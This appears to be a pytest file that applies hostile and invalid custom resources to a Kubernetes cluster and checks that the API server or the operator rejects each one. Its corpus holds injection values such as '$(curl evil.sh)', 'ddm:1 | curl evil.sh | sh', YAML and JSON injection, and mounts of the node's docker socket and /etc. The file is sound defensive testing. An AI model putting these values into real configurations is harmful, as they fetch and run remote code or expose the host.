"""Hostile and invalid DDMDeployments against the real API server with the operator running.

Each case of the corpus is refused in one of two places, never half-way:

- by the API server (the CRD's schema): HTTP 422 with a message naming the field;
- by the operator (checks a schema cannot make, or values the API server would refuse in a
  child): the resource is stored, its status says ``SpecValid: False`` naming the field, and
  a Warning event says the same.

Either way no child (Deployment, Service, ConfigMap, Secret, NetworkPolicy) is ever created:
the operator runs with router authentication and NetworkPolicies on, so that every kind of
child it can make would appear if a case slipped through. Everything is applied first and
waited for once. Kubernetes 1.20 names fields inside list items without their index
(``spec.experts.replicas``); the operator names them with it (``spec.experts[0].replicas``).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

import pytest
from kubernetes.client.exceptions import ApiException
from test_operator import (  # the shared helpers of the operator's cluster tests
    CPU_SPEC,
    GROUP,
    OWNER_LABEL,
    PLURAL,
    VERSION,
    Cluster,
    OperatorThread,
    crd,  # noqa: F401  (a fixture: the CRD applied)
    wait_for,
)

from ddm.operator.config import OperatorConfig

API, OPERATOR = "api", "operator"
LONG = "x" * 100_000
#: (case, patch: {dotted path in the document: value}, who refuses it, message fragment).
#: A path segment that is a number indexes a list (the list's length appends).
CORPUS: list[tuple[str, dict[str, Any], str, str]] = [
    # sizes
    ("a million expert replicas", {"spec.experts.0.replicas": 1_000_000}, API,
     "spec.experts.replicas: Invalid value: 1000000"),
    ("int32-max router replicas", {"spec.router.replicas": 2**31 - 1}, API,
     "spec.router.replicas: Invalid value: 2147483647"),
    ("a thousand devices", {"spec.experts.0.accelerator": {"type": "nvidia", "count": 1000}},
     API, "spec.experts.accelerator.count: Invalid value: 1000"),
    ("more GPUs than a node has", {"spec.experts.0.accelerator": {"type": "nvidia",
                                                                  "count": 9}},
     OPERATOR, "spec.experts[0].accelerator.count: 9 is not a size nvidia offers per pod"),
    ("zero steps", {"spec.sampling.steps": 0}, API, "spec.sampling.steps: Invalid value: 0"),
    ("a million steps", {"spec.sampling.steps": 1_000_000}, API,
     "spec.sampling.steps: Invalid value: 1000000"),
    ("no classes at all", {"spec.numClasses": 0}, API, "spec.numClasses: Invalid value: 0"),
    ("a class beyond any model", {"spec.experts.0.classes": [0, 1, 2, 5000]}, API,
     "spec.experts.classes: Invalid value: 5000"),
    ("a billion-row batch", {"spec.experts.0.maxBatch": 10**9}, API,
     "spec.experts.maxBatch: Invalid value: 1000000000"),
    ("absurd memory", {"spec.experts.0.resources": {"limits": {"memory": "1000Ei"}}}, OPERATOR,
     "spec.experts[0].resources.limits['memory']: 1000Ei is more than any node offers"),
    ("not a quantity", {"spec.experts.0.resources": {"requests": {"cpu": "all of it"}}}, API,
     "spec.experts.resources.requests.cpu"),
    ("requests beyond limits",
     {"spec.experts.0.resources": {"requests": {"memory": "8Gi"}, "limits": {"memory": "1Gi"}}},
     OPERATOR, "spec.experts[0].resources.requests['memory']: 8Gi is more than its limit 1Gi"),
    ("a GPU by hand", {"spec.experts.0.resources": {"limits": {"nvidia.com/gpu": 8}}}, OPERATOR,
     "spec.experts[0].resources.limits: nvidia.com/gpu is set from accelerator"),
    # injection in names and labels
    ("command substitution in the name", {"metadata.name": "x$(reboot)"}, API,
     "metadata.name"),
    ("a newline in an expert name", {"spec.experts.0.name": "a\nb"}, API,
     "spec.experts.name: Invalid value"),
    ("a quote in an expert name", {"spec.experts.0.name": 'a"b'}, API,
     "spec.experts.name: Invalid value"),
    ("a Cyrillic look-alike expert name", {"spec.experts.0.name": "\u0430"}, API,
     "spec.experts.name: Invalid value"),
    ("a 5000-character expert name", {"spec.experts.0.name": "a" * 5000}, API,
     "spec.experts.name in body should be at most 30 chars long"),
    ("a newline in a label of the resource", {"metadata.labels": {"team": "ml\nroot: true"}},
     API, "metadata.labels: Invalid value"),
    ("command substitution in a label", {"metadata.labels": {"team": "$(curl evil.sh)"}}, API,
     "metadata.labels: Invalid value"),
    ("a newline in a node selector", {"spec.experts.0.nodeSelector": {"pool": "a\nb: c"}}, API,
     "spec.experts.nodeSelector.pool: Invalid value"),
    ("JSON injection in a node selector",
     {"spec.experts.0.nodeSelector": {"pool": '"},"hostNetwork":true,"x":{"'}}, API,
     "spec.experts.nodeSelector.pool: Invalid value"),
    ("a 100 kB node selector value", {"spec.experts.0.nodeSelector": {"pool": LONG}}, API,
     "spec.experts.nodeSelector.pool in body should be at most 63 chars long"),
    ("command substitution in a node selector key",
     {"spec.experts.0.nodeSelector": {"$(id)": "x"}}, OPERATOR,
     "spec.experts[0].nodeSelector['$(id)']: '$(id)' is not a label key"),
    ("a strategy with a statement", {"spec.sampling.strategy": "top1; DROP TABLE x"}, API,
     "spec.sampling.strategy: Invalid value"),
    # images and checkpoints
    ("a shell pipeline as image", {"spec.experts.0.image": "ddm:1 | curl evil.sh | sh"}, API,
     "spec.experts.image: Invalid value"),
    ("YAML injection as image", {"spec.experts.0.image": "ddm:1\ncommand: [sh, -c, id]"}, API,
     "spec.experts.image: Invalid value"),
    ("command substitution as router image", {"spec.router.image": "$(id)"}, API,
     "spec.router.image: Invalid value"),
    ("a newline in a checkpoint URI", {"spec.experts.0.checkpoint.uri": "image:///m\n/etc"}, API,
     "spec.experts.checkpoint.uri: Invalid value"),
    ("a 3000-character checkpoint URI",
     {"spec.experts.0.checkpoint.uri": "s3://bucket/" + "k" * 3000}, API,
     "spec.experts.checkpoint.uri in body should be at most 1024 chars long"),
    ("the node's docker socket", {"spec.experts.0.checkpoint.uri": "file:///var/run/docker.sock"},
     OPERATOR, ("spec.experts[0].checkpoint.uri: 'file:///var/run/docker.sock' mounts a "
                "directory of the node")),
    ("the node's /etc for the router", {"spec.router.checkpoint": {"uri": "file:///etc"}},
     OPERATOR, "spec.router.checkpoint.uri: 'file:///etc' mounts a directory of the node"),
    ("a claim path out of its volume", {"spec.experts.0.checkpoint.uri": "pvc://m/../../etc"},
     OPERATOR, "spec.experts[0].checkpoint.uri: 'pvc://m/../../etc': '..' is not allowed"),
    # accelerators and placement
    ("an unknown accelerator", {"spec.experts.0.accelerator": {"type": "amd-mi300"}}, API,
     'spec.experts.accelerator.type: Unsupported value: "amd-mi300"'),
    ("JAX on Neuron", {"spec.experts.0.framework": "jax",
                       "spec.experts.0.accelerator": {"type": "neuron"}}, OPERATOR,
     "spec.experts[0].accelerator.type: neuron cannot run framework jax"),
    ("a node selector against the GPU product",
     {"spec.experts.0.accelerator": {"type": "nvidia", "product": "NVIDIA-H100-80GB-HBM3"},
      "spec.experts.0.nodeSelector": {"nvidia.com/gpu.product": "Tesla-T4"}}, OPERATOR,
     "spec.experts[0].nodeSelector['nvidia.com/gpu.product']: 'Tesla-T4' contradicts"),
    ("TPU nodes for a GPU expert",
     {"spec.experts.0.accelerator": {"type": "nvidia"},
      "spec.experts.0.nodeSelector": {"cloud.google.com/gke-tpu-topology": "2x2"}}, OPERATOR,
     "spec.experts[0].nodeSelector['cloud.google.com/gke-tpu-topology']: selects tpu nodes"),
    ("a toleration effect that does not exist",
     {"spec.experts.0.tolerations": [{"key": "k", "operator": "Exists", "effect": "Always"}]},
     API, 'spec.experts.tolerations.effect: Unsupported value: "Always"'),
    ("Exists with a value",
     {"spec.experts.0.tolerations": [{"key": "k", "operator": "Exists", "value": "v"}]},
     OPERATOR, "spec.experts[0].tolerations[0].value: must be empty with operator Exists"),
    ("tolerationSeconds that never applies",
     {"spec.experts.0.tolerations": [{"key": "k", "operator": "Exists",
                                      "effect": "NoSchedule", "tolerationSeconds": 60}]},
     OPERATOR, ("spec.experts[0].tolerations[0].tolerationSeconds: applies only with effect "
                "NoExecute")),
    ("an affinity the API server refuses",
     {"spec.experts.0.affinity": {"nodeAffinity": {
         "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
             {"matchExpressions": [{"key": "zone", "operator": "Sometimes"}]}]}}}},
     OPERATOR, "spec.template.spec.affinity.nodeAffinity"),
    # classes and routing
    ("duplicate expert names", {"spec.experts.3": {**CPU_SPEC["experts"][0]}}, API,
     "spec.experts[3]: Duplicate value"),
    ("overlapping classes", {"spec.experts.1.classes": [2, 3, 4, 5, 6]}, OPERATOR,
     "spec.experts[1].classes: label 2 is also claimed by expert a"),
    ("classes nobody serves", {"spec.experts.2.classes": [7]}, OPERATOR,
     "spec.experts: labels [8, 9] belong to no expert"),
    ("classes beyond numClasses", {"spec.numClasses": 5}, OPERATOR,
     "spec.experts[1].classes: [5, 6] are outside 0..4"),
    ("a learned strategy without the router network", {"spec.sampling.strategy": "top1"},
     OPERATOR, "spec.router.checkpoint: strategy top1 needs the router network's checkpoint"),
    ("top-5 of three experts", {"spec.sampling.strategy": "top5",
                                "spec.router.checkpoint": {"uri": "image:///r"}}, OPERATOR,
     "spec.sampling.strategy: top5 combines 5 experts but only 3 are defined"),
    ("a token Secret out of the namespace", {"spec.router.auth": {"secretName": "../kube"}},
     API, "spec.router.auth.secretName: Invalid value"),
]


def _set(document: dict, path: str, value: Any) -> None:
    *parents, last = path.split(".")
    node: Any = document
    for part in parents:
        node = node[int(part)] if isinstance(node, list) else node.setdefault(part, {})
    if isinstance(node, list):
        index = int(last)
        node[index:index + 1] = [value]
    else:
        node[last] = value


def _document(name: str, patch: dict[str, Any]) -> dict:
    document = {"apiVersion": f"{GROUP}/{VERSION}", "kind": "DDMDeployment",
                "metadata": {"name": name}, "spec": copy.deepcopy(CPU_SPEC)}
    for path, value in patch.items():
        _set(document, path, copy.deepcopy(value))
    return document


#: Every kind of child the operator can create (all carry the owner label).
CHILD_KINDS = ("Deployment", "Service", "ConfigMap", "Secret", "NetworkPolicy")


@pytest.fixture(scope="module")
def outcomes(dev_cluster: Any, kube_client: Any, crd: dict  # noqa: F811
             ) -> Iterator[tuple[str, dict[str, str], dict[str, dict], list[dict]]]:
    """Apply the whole corpus to one namespace with the operator running (authentication and
    NetworkPolicies on); wait once for every accepted case to be reported. Yields (namespace,
    the API server's message per refused case, the status per accepted case, the events)."""
    from kubernetes import client

    cluster = Cluster(kube_client)
    namespace = "adversarial"
    client.CoreV1Api(kube_client).create_namespace({"metadata": {"name": namespace}})
    running = OperatorThread(dev_cluster.kubeconfig)
    running.start(OperatorConfig(router_auth=True, network_policy=True))
    try:
        refused: dict[str, str] = {}
        accepted: dict[str, str] = {}
        for index, (case, patch, _, _) in enumerate(CORPUS):
            document = _document(f"adv-{index:02d}", patch)
            try:
                cluster.custom.create_namespaced_custom_object(GROUP, VERSION, namespace,
                                                               PLURAL, document)
            except ApiException as error:
                assert error.status == 422, (case, error.status, error.body)
                refused[case] = json.loads(error.body)["message"]
            else:
                accepted[case] = document["metadata"]["name"]

        def reported() -> dict[str, dict] | None:
            listing = cluster.custom.list_namespaced_custom_object(GROUP, VERSION, namespace,
                                                                   PLURAL)["items"]
            by_name = {item["metadata"]["name"]: item.get("status") or {} for item in listing}
            statuses = {case: by_name.get(name, {}) for case, name in accepted.items()}
            done = all(s.get("observedGeneration") == 1 and s.get("phase")
                       for s in statuses.values())
            return statuses if done else None
        statuses = wait_for(reported, 60, "a status for every accepted case")

        def warned() -> list[dict] | None:
            events = [e for e in cluster.events(namespace) if e["type"] == "Warning"]
            return events if {e["involvedObject"]["name"] for e in events} >= set(
                accepted.values()) else None
        events = wait_for(warned, 30, "a Warning event for every accepted case")
        yield namespace, refused, statuses, events
    finally:
        running.stop()


def test_the_corpus_is_large_and_covers_both_gates() -> None:
    assert len(CORPUS) >= 30 and len({case for case, *_ in CORPUS}) == len(CORPUS)
    assert {who for _, _, who, _ in CORPUS} == {API, OPERATOR}


@pytest.mark.parametrize("case, who, fragment",
                         [(case, who, fragment) for case, _, who, fragment in CORPUS])
def test_each_case_is_refused_naming_its_field(outcomes: tuple, case: str, who: str,
                                               fragment: str) -> None:
    _, refused, statuses, events = outcomes
    if who == API:
        assert case in refused, f"the API server accepted it: {statuses.get(case)}"
        assert fragment in refused[case]
        return
    assert case in statuses, f"the API server refused it: {refused.get(case)}"
    status = statuses[case]
    assert status["phase"] == "Invalid", status
    spec_valid = next(c for c in status["conditions"] if c["type"] == "SpecValid")
    assert spec_valid["status"] == "False" and fragment in spec_valid["message"], spec_valid
    index = [c for c, *_ in CORPUS].index(case)
    warnings = [e for e in events if e["involvedObject"]["name"] == f"adv-{index:02d}"]
    assert any(e["reason"] == "InvalidSpec" and fragment in e["message"] for e in warnings), \
        warnings


def test_no_case_creates_any_child(outcomes: tuple, kube_client: Any) -> None:
    namespace, *_ = outcomes
    cluster = Cluster(kube_client)
    children = [f"{kind} {item['metadata']['name']}" for kind in CHILD_KINDS
                for item in cluster.list(kind, namespace, OWNER_LABEL)]
    assert children == []
    assert [e["message"] for e in cluster.events(namespace) if e["reason"] == "Created"] == []
